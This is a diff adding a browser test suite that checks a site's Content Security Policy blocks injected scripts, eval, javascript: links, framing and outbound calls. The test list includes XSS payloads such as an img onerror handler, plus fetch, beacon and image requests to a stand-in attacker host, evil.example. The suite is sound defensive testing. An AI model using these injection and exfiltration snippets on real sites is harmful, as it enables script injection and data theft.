@@ -1,0 +1,196 @@
+// What gets into a page in spite of everything can run nothing there and send nothing out: the policy bites.
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { expect, test } from '../../support/browser/e2e-fixtures.ts';
+import { type Program, startProgram } from '../../support/program/program.ts';
+import { copyStarted } from '../../support/program/started-trust.ts';
+
+const expectSoftly = expect.configure({ soft: true });
+const FORM = 'https://forms.adhyay.example/f/abcdefgh';
+const PAGES = ['/', '/contact', '/volunteer/login'];
+
+let program: Program;
+let dataDir: string;
+
+test.beforeAll(async () => {
+  dataDir = mkdtempSync(join(tmpdir(), 'adhyay-policy-'));
+  copyStarted(dataDir);
+  program = await startProgram({ DATA_DIR: dataDir, FORM_ENDPOINT: FORM });
+});
+test.afterAll(async () => {
+  await program.stop('SIGTERM');
+  rmSync(dataDir, { recursive: true, force: true });
+});
+
+/** The one or the other is the first to refuse. */
+const SCRIPT = /require-trusted-types-for|script-src/;
+/** What an attacker tries, and the part of the policy that stops it. */
+const TRIES: [name: string, directive: RegExp, attack: () => unknown][] = [
+  [
+    'an inline script',
+    SCRIPT,
+    () => {
+      const script = document.createElement('script');
+      script.append('globalThis.ran = true');
+      document.body.append(script);
+    },
+  ],
+  [
+    'markup from a text',
+    SCRIPT,
+    () => {
+      document.body.innerHTML = '<img src=x onerror="globalThis.ran = true">';
+    },
+  ],
+  [
+    'a handler in the markup',
+    SCRIPT,
+    () => {
+      const button = document.createElement('button');
+      document.body.append(button);
+      const handler = document.createAttribute('onclick');
+      handler.value = 'globalThis.ran = true';
+      button.setAttributeNode(handler);
+      button.click();
+    },
+  ],
+  [
+    'a link that runs',
+    SCRIPT,
+    () => {
+      const link = document.createElement('a');
+      link.href = 'javascript:globalThis.ran = true';
+      document.body.append(link);
+      link.click();
+    },
+  ],
+  [
+    'eval',
+    SCRIPT,
+    // From a timer: what Playwright evaluates may eval.
+    () => void setTimeout(() => Reflect.get(globalThis, 'eval')('globalThis.ran = true')),
+  ],
+  [
+    'a script from elsewhere',
+    SCRIPT,
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/x.js';
+      document.body.append(script);
+    },
+  ],
+  ['a module from elsewhere', SCRIPT, () => import('https://evil.example/x.js' as string)],
+  [
+    'a policy of its own',
+    /trusted-types/,
+    () => Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {}),
+  ],
+  ['a call to elsewhere', /connect-src/, () => fetch('https://evil.example/')],
+  [
+    "another's form at the form service",
+    /connect-src/,
+    () => fetch('https://forms.adhyay.example/f/anothers', { method: 'POST' }),
+  ],
+  ['a beacon to elsewhere', /connect-src/, () => navigator.sendBeacon('https://evil.example/')],
+  [
+    'a picture from elsewhere',
+    /img-src/,
+    () => {
+      new Image().src = 'https://evil.example/?token';
+    },
+  ],
+  [
+    'another base',
+    /base-uri/,
+    () => {
+      const base = document.createElement('base');
+      base.href = 'https://evil.example/';
+      document.head.append(base);
+    },
+  ],
+  [
+    'a form that goes elsewhere',
+    /form-action/,
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  ],
+  [
+    'a frame in the page',
+    /frame-src/,
+    () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      document.body.append(frame);
+    },
+  ],
+  ['a worker', SCRIPT, () => new Worker('/assets/evil.js')],
+];
+
+for (const path of PAGES) {
+  test(`${path}: nothing foreign runs, nothing goes out`, async ({ browser }) => {
+    test.setTimeout(120_000);
+    const page = await browser.newPage();
+    const left: string[] = [];
+    await page.route(/\/\/(evil|forms\.adhyay)\.example/, (route) => {
+      left.push(route.request().url());
+      return route.abort();
+    });
+    for (const [name, directive, attack] of TRIES) {
+      await page.goto(program.address + path);
+      await tryIt(page, attack);
+      await expectSoftly.poll(() => stopped(page), name).toMatch(directive);
+      expect.soft(await page.evaluate(() => 'ran' in globalThis), `${name} ran`).toBe(false);
+    }
+    expect(left).toEqual([]);
+    await page.close();
+  });
+}
+
+test('the form may go to its own place, and to no other of that host', async ({ browser }) => {
+  const page = await browser.newPage();
+  const answered = page.waitForRequest(FORM);
+  await page.route(FORM, (route) => route.fulfill({ body: '{}' }));
+  await page.goto(`${program.address}/contact`);
+  await page.evaluate((form) => void fetch(form, { method: 'POST', mode: 'no-cors' }), FORM);
+  await answered;
+  await page.close();
+});
+
+test('nobody frames a page', async ({ browser }) => {
+  const page = await browser.newPage();
+  await page.route('https://evil.example/', (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<iframe src="${program.address}/volunteer/login"></iframe>`,
+    }),
+  );
+  await page.goto('https://evil.example/');
+  // What Chromium shows in place of a page that may not be framed.
+  await expect
+    .poll(() => page.frames().map((frame) => frame.url()))
+    .toEqual(['https://evil.example/', 'chrome-error://chromewebdata/']);
+  await page.close();
+});
+
+async function tryIt(page: Page, attack: () => unknown): Promise<void> {
+  await page.evaluate(() => {
+    const seen: string[] = [];
+    Reflect.set(globalThis, 'stopped', seen);
+    document.addEventListener('securitypolicyviolation', (event) => {
+      seen.push(event.effectiveDirective);
+    });
+  });
+  // What is refused throws there, or its promise fails: both are expected.
+  await page.evaluate(attack).catch(() => {});
+}
+
+/** The parts of the policy that have stopped something since it was tried; a browser tells of them later. */
+function stopped(page: Page): Promise<string> {
+  return page.evaluate((): string => Reflect.get(globalThis, 'stopped').join(' '));
+}
